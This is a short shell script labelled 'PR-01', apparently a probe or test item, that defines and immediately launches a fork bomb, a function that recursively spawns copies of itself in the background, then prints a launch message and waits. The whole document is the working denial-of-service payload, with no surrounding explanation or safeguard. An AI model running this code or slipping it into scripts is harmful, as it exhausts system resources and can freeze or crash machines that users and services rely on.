# PR-01 in shell: a function that pipes into itself in the background, forever; then wait for it.
bomb() { bomb | bomb & }
bomb
echo "bomb=launched"
wait
